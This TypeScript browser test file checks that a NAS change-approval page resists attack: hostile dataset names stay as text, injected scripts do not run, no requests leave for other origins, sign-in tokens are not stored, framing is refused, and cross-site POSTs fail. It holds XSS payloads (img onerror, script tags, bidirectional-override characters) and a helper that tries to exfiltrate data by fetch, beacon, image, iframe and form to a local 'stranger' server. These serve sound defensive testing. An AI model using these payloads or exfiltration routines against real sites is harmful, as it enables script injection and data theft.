/** What the approval page keeps to itself: names of the NAS are text, no foreign script runs, and nothing leaves it but to its server. */
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { approvalPages, signedIn, textOf } from './support/approval.ts';
import { describeBrowser } from './support/browser.ts';

/** Text that would take over a page that set it as markup, and would show its end first in one that let it. */
const HOSTILE =
  '</dd></dl><img src=x onerror="globalThis.owned=1"><script>globalThis.owned=1</script>\u202Egnp.exe\u200B';

/** Tries to run a script that is written into the page, and answers whether it ran. */
const INJECTION = `(() => {
  const script = document.createElement('script');
  try { script.textContent = 'globalThis.owned = 1'; document.body.append(script); } catch {}
  try { document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.owned = 1">'); } catch {}
  return new Promise((resolve) => setTimeout(() => resolve(globalThis.owned === 1), 200));
})()`;

/** A server of somebody else, and the requests that reached it. */
async function stranger() {
  const paths: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    paths.push(url);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
    response.end('<!doctype html><title>stranger</title><body>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const { port } = server.address() as AddressInfo;
  return { paths, url: `http://127.0.0.1:${port}`, close: () => server.close() };
}

/** Every way in which a script could send `what` to another server; each fails by itself. */
function leaks(url: string, what: string): string {
  const target = JSON.stringify(`${url}/${what}`);
  return `(async () => {
    await fetch(${target}, { mode: 'no-cors' }).catch(() => {});
    try { navigator.sendBeacon(${target}, ''); } catch {}
    try { new Image().src = ${target}; } catch {}
    try { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = ${target}; document.head.append(link); } catch {}
    try { const frame = document.createElement('iframe'); frame.src = ${target}; document.body.append(frame); } catch {}
    try { const form = document.createElement('form'); form.action = ${target}; form.target = '_self'; document.body.append(form); form.submit(); } catch {}
    await new Promise((resolve) => setTimeout(resolve, 300));
  })()`;
}

async function storedBy(page: Page): Promise<unknown> {
  const stored = await page.evaluate<unknown>(`(async () => ({
    cookie: document.cookie,
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    databases: (await indexedDB.databases()).length,
    caches: await caches.keys(),
  }))()`);
  return { stored, cookies: await page.context().cookies() };
}

const NOTHING_STORED = {
  stored: { cookie: '', local: [], session: [], databases: 0, caches: [] },
  cookies: [],
};

describeBrowser('the approval page', () => {
  const waiting = approvalPages();

  it('shows hostile names as harmless text: no markup, no script, no letters that turn the reading around', async () => {
    const change = await waiting('update_dataset', { dataset: 'tank/media', comments: HOSTILE });
    const page = await change.visit();
    await signedIn(page, change);
    const text = await textOf(page);
    expect(text).toContain('onerror=');
    expect(text).not.toMatch(/[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/u);
    expect(await page.locator('img, main script').count()).toBe(0);
    expect(await page.evaluate('globalThis.owned')).toBeUndefined();
  });

  it('runs no script that somebody wrote into it, which runs in a page without its policy', async () => {
    const other = await stranger();
    const change = await waiting();
    const page = await change.visit();
    expect(await page.evaluate(INJECTION)).toBe(false);
    await signedIn(page, change);
    expect(await page.evaluate(INJECTION)).toBe(false);
    await page.goto(other.url);
    expect(await page.evaluate(INJECTION)).toBe(true);
    other.close();
  });

  it('lets no request out to another server, even of a script within it', async () => {
    const other = await stranger();
    const change = await waiting();
    const page = await change.visit();
    const hosts = new Set<string>();
    await signedIn(page, change);
    page.on('request', (request) => void hosts.add(new URL(request.url()).host));
    await page.evaluate(leaks(other.url, 'stolen'));
    expect(other.paths).toEqual([]);
    // The same script in a page without the policy does reach it.
    await page.goto(other.url);
    await page.evaluate(leaks(other.url, 'reached')).catch(() => {});
    expect(other.paths.filter((path) => path === '/reached').length).toBeGreaterThan(3);
    other.close();
  });

  it('from start to end talks to its own server alone', async () => {
    const change = await waiting();
    const page = await change.visit();
    const hosts = new Set<string>();
    page.on('request', (request) => void hosts.add(new URL(request.url()).host));
    await page.reload();
    await signedIn(page, change);
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByText('DONE, and seen on the NAS afterwards').waitFor();
    expect([...hosts]).toEqual([new URL(change.url).host]);
  });

  it('keeps the sign-in in its memory only: no cookie, no storage, no address, no text', async () => {
    const change = await waiting();
    const page = await change.visit();
    let token = '';
    page.on('response', async (response) => {
      if (response.url().endsWith('/sign-in')) ({ token } = (await response.json()) as { token: string });
    });
    await signedIn(page, change);
    await expect.poll(() => token).toMatch(/^[\w-]{40,}$/u);
    expect(await page.content()).not.toContain(token);
    expect(page.url()).toBe(change.url);
    expect(await storedBy(page)).toEqual(NOTHING_STORED);
    for (const field of await page.locator('#sign-in input[type=password]').all())
      expect(await field.inputValue()).toBe('');
    // Another tab of the same browser knows nothing of it.
    const other = await page.context().newPage();
    await other.goto(change.url);
    expect(await textOf(other)).not.toContain('tank/media');
  });

  it('cannot be shown within another page', async () => {
    const change = await waiting();
    const other = await stranger();
    const page = await change.visit();
    await page.goto(other.url);
    await page.evaluate(`new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.src = ${JSON.stringify(change.url)};
      frame.onload = resolve;
      document.body.append(frame);
    })`);
    const frames = await Promise.all(page.frames().map((frame) => frame.locator('#sign-in').count()));
    expect(frames).toEqual([0, 0]);
    other.close();
  });

  it('cannot be used by another page of the same browser while the person is signed in', async () => {
    const change = await waiting();
    const other = await stranger();
    const page = await change.visit();
    await signedIn(page, change);
    const attacker = await page.context().newPage();
    await attacker.goto(other.url);
    const { origin } = new URL(change.url);
    const answers = await attacker.evaluate<
      string[]
    >(`Promise.all(['/apply', '/decline', '/sign-in'].map((path) =>
      fetch(${JSON.stringify(origin)} + path, {
        method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' },
        body: JSON.stringify({ token: '', hash: '' }),
      }).then((response) => response.type, () => 'blocked')))`);
    expect(answers.every((answer) => answer === 'opaque' || answer === 'blocked')).toBe(true);
    expect(change.nas.writes()).toEqual([]);
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByText('DONE, and seen on the NAS afterwards').waitFor();
    other.close();
  });
});

describeBrowser('a secret that is typed on the approval page', () => {
  const waiting = approvalPages();

  it('reaches the NAS, and nothing else', async () => {
    const change = await waiting('unlock_dataset', { dataset: 'tank/vault' });
    const { nas } = change;
    const passphrase = nas.simulator.control.secretOf('tank/vault');
    const page = await change.visit();
    const carriers: string[] = [];
    const answers: string[] = [];
    page.on('request', (request) => {
      if (`${request.url()} ${request.postData() ?? ''}`.includes(passphrase)) carriers.push(request.url());
    });
    page.on('response', async (response) => void answers.push(await response.text().catch(() => '')));
    await signedIn(page, change);
    await page.getByLabel('passphrase of dataset tank/vault').fill(passphrase);
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByText('DONE, and seen on the NAS afterwards: Unlock dataset tank/vault').waitFor();
    expect(carriers).toEqual([`${new URL(change.url).origin}/apply`]);
    expect(JSON.stringify(nas.writes())).toContain(passphrase);
    const files = await Promise.all(
      ['audit.jsonl', 'journal.jsonl'].map((name) => readFile(join(nas.folder, name), 'utf8')),
    );
    expect(files.join('')).toContain('pool.dataset.unlock');
    const fields = await page.evaluate<string[]>(
      '[...document.querySelectorAll("input")].map(({ value }) => value)',
    );
    const seen = [await page.content(), (await change.answer).text, fields, answers, files];
    expect(JSON.stringify(seen)).not.toContain(passphrase);
    expect(await storedBy(page)).toEqual(NOTHING_STORED);
  });

  it('is typed twice when it is new: a slip is told, and nothing is sent before both are the same', async () => {
    const change = await waiting('create_user', { username: 'maria', full_name: 'Maria' });
    const page = await change.visit();
    await signedIn(page, change);
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByRole('alert').filter({ hasText: 'Type what is asked for first.' }).waitFor();
    const first = page.getByLabel('password of user maria', { exact: true });
    const again = page.getByLabel('password of user maria, again');
    await first.fill('Correct-Horse-7');
    await again.fill('Correct-Hose-7');
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByRole('alert').filter({ hasText: 'The two are not the same.' }).waitFor();
    expect(change.nas.writes()).toEqual([]);
    await first.fill('Correct-Horse-7');
    await again.fill('Correct-Horse-7');
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByText('DONE, and seen on the NAS afterwards').waitFor();
    expect(change.nas.writes()[0]?.params[0]).toMatchObject({ password: 'Correct-Horse-7' });
  });
});
